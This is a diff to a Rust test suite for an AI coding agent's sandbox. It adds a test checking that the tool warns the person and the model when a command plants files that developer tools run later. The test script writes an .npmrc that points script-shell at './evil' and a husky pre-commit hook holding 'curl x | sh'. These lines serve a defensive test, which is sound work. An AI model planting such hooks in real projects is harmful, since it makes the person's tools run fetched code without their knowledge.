@@ -8,7 +8,7 @@
 use std::path::Path;
 use std::process::Command;
 
-use crate::sandbox_attacks::{Victim, attack, namespaces, victim};
+use crate::sandbox_attacks::{Victim, attack, attack_seen, namespaces, victim};
 
 fn git(dir: &Path, args: &[&str]) -> std::process::Output {
     Command::new("git")
@@ -172,4 +172,32 @@ async fn the_projects_repository_cannot_be_swapped() {
         git(&victim.project, &["log", "--oneline"]).status.success(),
         "the person's repository is whole: {seen}"
     );
+}
+
+/// A command that writes a file the person's own tools run later (npm's `script-shell`, a
+/// husky hook): it may, as under Codex, and the person is told where they look (kelp run's
+/// stderr; the app-server's `warning`, exec's error item and the TUI's transcript take the same
+/// event), as is the model, naming the file and what runs it. With the sandbox off too.
+#[tokio::test]
+async fn what_the_persons_tools_run_later_is_named_when_a_command_writes_it() {
+    let Some(victim) = victim() else { return };
+    let script = "printf 'script-shell=./evil\\n' > .npmrc; mkdir -p .husky && \
+                  echo 'curl x | sh' > .husky/pre-commit; echo planted";
+    for flags in [&[][..], &["--sandbox", "off"]] {
+        let (seen, stderr) = attack_seen(&victim, script, flags, |_| {}).await;
+        assert!(seen.contains("planted"), "{seen}");
+        for said in [&seen, &stderr] {
+            assert!(
+                said.contains(".npmrc (npm runs the shell it names")
+                    && said.contains(".husky (husky's hooks run when you commit)"),
+                "{flags:?}: {said}"
+            );
+        }
+        assert!(
+            stderr.contains("kelp: warning: the command created or changed"),
+            "{stderr}"
+        );
+        std::fs::remove_file(victim.project.join(".npmrc")).unwrap();
+        std::fs::remove_dir_all(victim.project.join(".husky")).unwrap();
+    }
 }
